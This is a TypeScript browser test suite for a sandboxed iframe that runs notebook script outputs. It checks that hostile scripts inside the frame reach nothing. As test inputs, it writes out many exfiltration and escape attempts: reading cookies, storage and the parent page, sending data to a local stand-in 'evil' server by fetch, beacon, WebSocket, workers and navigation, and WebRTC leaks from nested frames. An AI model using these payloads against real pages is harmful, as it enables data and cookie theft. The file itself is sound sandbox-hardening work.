// The page that runs script outputs, in real Chromium: it runs them, and they reach nothing. A plain page of the same
// origin stands for the notebook around it, under the policy that our pages have.
import { createSocket } from 'node:dgram'
import { createServer } from 'node:http'
import type { Page } from 'playwright-core'
import { afterAll, afterEach, beforeAll, beforeEach, expect, test } from 'vitest'
import { outputFrameAddress } from '#protocol/output-addresses.ts'
import { eventually, TestBrowser } from '../support/browser.ts'
import { type TestServer, testServer } from '../support/test-server.ts'

let server: TestServer
let browser: TestBrowser
let page: Page
/** What asked the attacker's server. */
const asked: string[] = []
const attacker = createServer((request, response) => {
  asked.push(request.url ?? '')
  response.setHeader('Access-Control-Allow-Origin', '*')
  response.end()
})

beforeAll(async () => {
  server = await testServer()
  browser = await TestBrowser.launch()
  await new Promise<void>(done => attacker.listen(0, '127.0.0.1', done))
})

afterAll(async () => {
  await browser[Symbol.asyncDispose]()
  await server[Symbol.asyncDispose]()
  attacker.close()
})

beforeEach(async () => {
  const origin = `http://127.0.0.1:${server.port}`
  const policy = (await fetch(origin)).headers.get('Content-Security-Policy') ?? ''
  page = await browser.open('about:blank')
  // The policy of our pages, without the rule for scripts: this page is driven by the test alone.
  await page.route(`${origin}/host`, route =>
    route.fulfill({
      contentType: 'text/html',
      headers: {
        'Content-Security-Policy': policy.replace("script-src 'self'", "script-src 'unsafe-inline'"),
      },
      body: '<!doctype html><title>notebook</title>',
    }),
  )
  await page.goto(`${origin}/host`)
  await page.evaluate(() => {
    // biome-ignore lint/suspicious/noDocumentCookie: the oldest way is the one that is to be refused in the frame.
    document.cookie = 'secret=1'
    localStorage.setItem('secret', '1')
  })
})

afterEach(async () => {
  await page.context().close()
})

interface Host {
  told: unknown[]
  frame: HTMLIFrameElement
}

/** Shows HTML as the notebook does; what the frame says is gathered. */
async function show(html: string): Promise<void> {
  await page.evaluate(
    ({ address, html }) => {
      const host = window as unknown as Host
      host.told = []
      const frame = document.createElement('iframe')
      host.frame = frame
      frame.sandbox.add('allow-scripts')
      frame.src = address
      window.addEventListener('message', event => {
        if (event.source !== frame.contentWindow) return
        host.told.push({ ...event.data, origin: event.origin })
        if (event.data.ready) frame.contentWindow?.postMessage({ html }, '*')
      })
      document.body.replaceChildren(frame)
    },
    { address: outputFrameAddress, html },
  )
}

function told(): Promise<Record<string, unknown>[]> {
  return page.evaluate(() => (window as unknown as Host).told as Record<string, unknown>[])
}

/** Waits for a fact. */
async function holds(fact: () => Promise<boolean>): Promise<void> {
  await eventually(fact).toBe(true)
}

/** What the shown script reports by itself. */
async function reported(name: string): Promise<unknown> {
  const told = await page.waitForFunction(
    key => (window as unknown as Host).told.find(message => key in (message as object)),
    name,
  )
  return ((await told.jsonValue()) as Record<string, unknown>)[name]
}

test('scripts run in order, with what they wrote and what they listen for, and the height is told', async () => {
  await show(`<html><body class="plot" onload="order.push('onload')"><div id="a" style="height: 321px">x</div>
    <script>var order = ['first']; document.addEventListener('DOMContentLoaded', () => order.push('loaded'))</script>
    <script src="data:text/javascript,order.push('second')"></script>
    <script>order.push('third'); document.write('<p id="written">w</p>')</script>
    <script>order.push(document.getElementById('written') ? 'written' : 'lost')
      window.addEventListener('load', () => setTimeout(() => parent.postMessage({ order }, '*')))</script>
    <script type="module">order.push('module')</script></body></html>`)
  const order = (await reported('order')) as string[]
  expect(order.filter(step => step !== 'module')).toEqual([
    'first',
    'second',
    'third',
    'written',
    'loaded',
    'onload',
  ])
  await holds(async () => (await told()).some(({ height }) => Number(height) >= 321 && Number(height) < 420))
})

test('it takes HTML once, answers a ping, and tells a smaller height again', async () => {
  await show('<div id="a" style="height: 300px"></div>')
  await holds(async () => (await told()).some(({ height }) => height === 300))
  await page.evaluate(() => {
    const { frame } = window as unknown as Host
    frame.contentWindow?.postMessage({ html: '<div style="height: 900px"></div>' }, '*')
    frame.contentWindow?.postMessage({ ping: 7 }, '*')
  })
  expect(await reported('pong')).toBe(7)
  expect((await told()).map(({ height }) => height)).not.toContain(900)
  await show(`<div id="a" style="height: 300px"></div>
    <script>setTimeout(() => { document.getElementById('a').style.height = '50px' }, 100)</script>`)
  await holds(async () => (await told()).at(-1)?.['height'] === 50)
})

test('what runs there has no origin, no cookie, no storage, no parent, no window and no way to ask', async () => {
  const evil = `http://127.0.0.1:${(attacker.address() as { port: number }).port}`
  const dialogs: string[] = []
  page.on('dialog', dialog => {
    dialogs.push(dialog.message())
    void dialog.dismiss()
  })
  const tries: Record<string, string> = {
    origin: 'return self.origin',
    cookie: 'return document.cookie',
    storage: 'return localStorage.getItem("secret")',
    session: 'return sessionStorage.length',
    databases: 'return await indexedDB.databases()',
    parent: 'return parent.document.title',
    top: 'return top.location.href',
    navigateTop: `top.location.href = '${evil}/top'; return 'went'`,
    popup: `return String(window.open('${evil}/popup'))`,
    alert: 'return String(alert("hello"))',
    confirm: 'return String(confirm("hello"))',
    print: 'return String(print())',
    fetch: `return (await fetch('${evil}/fetch')).status`,
    fetchUs: `return (await fetch('/api/me')).status`,
    request: `const r = new XMLHttpRequest(); r.open('GET', '${evil}/xhr', false); r.send(); return r.status`,
    beacon: `return navigator.sendBeacon('${evil}/beacon', 'x')`,
    socket: `return await new Promise((good, bad) => { const s = new WebSocket('${evil.replace('http', 'ws')}/socket'); s.onopen = good; s.onerror = () => bad(Error('refused')) })`,
    events: `return await new Promise((good, bad) => { const s = new EventSource('${evil}/events'); s.onopen = good; s.onerror = () => bad(Error('refused')) })`,
    worker: `return await new Promise((good, bad) => { const w = new Worker(URL.createObjectURL(new Blob(['fetch("${evil}/worker").then(() => postMessage("asked"), () => postMessage("refused"))']))); w.onmessage = ({ data }) => data === 'asked' ? good('asked') : bad(Error(data)); w.onerror = () => bad(Error('none')) })`,
    serviceWorker: `return String(await navigator.serviceWorker.register('/sw.js'))`,
    imported: `return String(await import('${evil}/module.js'))`,
    peer: 'return new RTCPeerConnection() && "made"',
    clipboard: 'return await navigator.clipboard.readText()',
    camera: 'return String(await navigator.mediaDevices.getUserMedia({ video: true }))',
    position:
      'return await new Promise((good, bad) => navigator.geolocation.getCurrentPosition(() => good("here"), bad))',
    fullscreen: 'await document.documentElement.requestFullscreen(); return "full"',
  }
  const script = Object.entries(tries)
    .map(([name, body]) => `${name}: async () => { ${body} }`)
    .join(',\n')
  await show(`<img src="${evil}/img"><link rel="stylesheet" href="${evil}/css"><link rel="preconnect" href="${evil}">
    <link rel="prefetch" href="${evil}/prefetch"><style>@import "${evil}/import"; body { background: url(${evil}/url) }</style>
    <iframe src="${evil}/frame"></iframe><object data="${evil}/object"></object><video src="${evil}/video"></video>
    <form id="form" action="${evil}/form" method="post"><input name="a"></form><script src="${evil}/script.js"></script>
    <base href="${evil}/base/">
    <script>
      const tries = { ${script} }
      const late = ms => new Promise((_, bad) => setTimeout(() => bad(Error('silent')), ms))
      Promise.all(Object.entries(tries).map(async ([name, act]) => {
        try { return [name, await Promise.race([act(), late(3000)])] } catch (error) { return [name, 'refused'] }
      })).then(outcomes => parent.postMessage({ outcomes: Object.fromEntries(outcomes) }, '*'))
      document.getElementById('form').submit()
    </script>`)
  const outcomes = (await reported('outcomes')) as Record<string, unknown>
  const { origin, popup, alert, confirm, print, beacon, ...others } = outcomes
  expect(origin).toBe('null')
  expect(popup).toBe('null')
  expect([alert, confirm, print]).toEqual(['undefined', 'false', 'undefined'])
  expect(Object.entries(others).filter(([, outcome]) => outcome !== 'refused')).toEqual([])
  expect(dialogs).toEqual([])
  expect(asked).toEqual([])
  expect(page.context().pages()).toHaveLength(1)
  expect(page.url()).toMatch(/\/host$/)
  expect((await told()).filter(({ blocked }) => blocked)).toHaveLength(1)
  expect((await told()).every(message => message['origin'] === 'null')).toBe(true)
})

test('a frame within runs, and reaches no peer either', async () => {
  const peer = createSocket('udp4')
  let packets = 0
  peer.on('message', () => {
    packets += 1
  })
  await new Promise<void>(done => peer.bind(0, '127.0.0.1', done))
  const content = `<script>
    try {
      const peer = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:${peer.address().port}' }] })
      peer.createDataChannel('x')
      peer.createOffer().then(offer => peer.setLocalDescription(offer))
      parent.postMessage('made', '*')
    } catch { parent.postMessage('refused', '*') }
  </script>`
  const within = (html: string) =>
    `<iframe srcdoc="${html.replaceAll('&', '&amp;').replaceAll('"', '&quot;')}"></iframe>`
  const relay = `<script>addEventListener('message', ({ data }) => parent.postMessage(data, '*'))</script>`
  const quoted = JSON.stringify(within(content)).replaceAll('</', '<\\/')
  const ways = {
    written: within(content),
    deeper: within(relay + within(content)),
    inShadow: `<div></div><script>
      const root = document.querySelector('div').attachShadow({ mode: 'closed', clonable: true })
      root.innerHTML = ${quoted}
    </script>`,
    behindTraps: `<script>
      String.prototype.startsWith = () => true
      Element.prototype.getAttribute = () => ''
      Function.prototype.call = () => {}
      document.body.insertAdjacentHTML('beforeend', ${quoted})
    </script>`,
  }
  for (const [way, html] of Object.entries(ways)) {
    await show(`<script>
      addEventListener('message', ({ data, source }) => { if (source !== parent) parent.postMessage({ outcome: data }, '*') })
    </script>${html}`)
    expect([way, await reported('outcome')]).toEqual([way, 'refused'])
  }
  expect(packets).toBe(0)
  peer.close()
})

test('it goes nowhere by itself: neither to another host nor to a page of ours', async () => {
  const evil = `http://127.0.0.1:${(attacker.address() as { port: number }).port}`
  const ways = [`${evil}/leave?cookie`, '/', '/api/me'].flatMap(target => [
    `<script>location.href = ${JSON.stringify(target)}</script>`,
    `<meta http-equiv="refresh" content="0;url=${target}">`,
  ])
  for (const way of ways) {
    await show(way)
    await holds(async () => (await told()).some(({ ready }) => ready))
    await holds(
      async () =>
        page.frames().length > 1 && page.frames().every(frame => !frame.url().endsWith('output-frame')),
    )
    expect(await page.evaluate(() => (window as unknown as Host).frame.contentDocument)).toBeNull()
  }
  expect(asked).toEqual([])
})

test('opened by itself it has no origin either', async () => {
  await page.goto(`http://127.0.0.1:${server.port}${outputFrameAddress}`)
  expect(await page.evaluate(() => self.origin)).toBe('null')
  await expect(page.evaluate(() => document.cookie)).rejects.toThrow(/sandboxed|denied|insecure/i)
})
